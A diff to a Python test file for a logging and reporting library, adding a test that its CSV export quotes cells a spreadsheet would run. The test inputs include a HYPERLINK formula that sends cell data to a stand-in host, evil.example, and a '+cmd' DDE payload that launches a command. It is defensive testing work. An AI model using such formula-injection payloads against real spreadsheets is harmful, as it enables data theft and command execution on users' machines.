@@ -4,7 +4,9 @@ files are read once, bad lines are counted, hostile names are escaped in the HTM
 from __future__ import annotations
 
 import asyncio
+import csv
 import html
+import io
 import json
 import os
 import re
@@ -25,7 +27,7 @@ from sherlock_ai.formatting import format_bytes
 from sherlock_ai.integrations.asgi import instrument_app
 from sherlock_ai.leaks import LeakSuspect
 from sherlock_ai.line_schema import locate, parse_message
-from sherlock_ai.lines import memory_line, performance_line, resources_line, safe_name
+from sherlock_ai.lines import log_sink, memory_line, performance_line, resources_line, safe_name
 from sherlock_ai.measurement import Measurement
 from sherlock_ai.report import ReadStats, build_report, read_logs
 from sherlock_ai.report.html import render_html
@@ -294,3 +296,22 @@ def test_a_name_with_one_record_is_drawn_in_the_distributions(tmp_path):
         svg = page.split(f"data-chart='{chart}'")[1].split("</svg>")[0]
         once = svg[svg.index("GET /once"):]
         assert "<circle" in once[:once.index("</g>")] and "GET /often" in svg
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(tmp_path, capsys):
+    # Names that the app chose, written by the real writers into a real log file.
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    sherlock_ai.sherlock_ai(LoggingConfig(logs_dir=tmp_path, console_enabled=False))
+    with sherlock_ai.MemoryTracker(formula, trace_malloc=False):
+        pass
+    for name in ("@SUM(A1:A9)", "-3.5", "+cmd|' /C calc'!A0"):
+        log_sink(Measurement("memory", name, "SUCCESS", 0.01, 20, rss=50 * 2**20,
+                             rss_change=-3584))
+    sherlock_ai.SherlockAI.cleanup()
+    assert formula in (tmp_path / "monitoring.log").read_text(encoding="utf-8")
+    assert main(["report", str(tmp_path), "--format", "csv"]) == 0
+    rows = {row["name"]: row for row in csv.DictReader(io.StringIO(capsys.readouterr().out))}
+    assert set(rows) == {"'" + formula, "'@SUM(A1:A9)", "-3.5", "'+cmd|' /C calc'!A0"}
+    # Figures stay numbers, negative ones too.
+    assert float(rows["'@SUM(A1:A9)"]["rss_change_min"]) == -3584.0
+    assert rows["-3.5"]["rss_change_mean"] == "-3584.0"
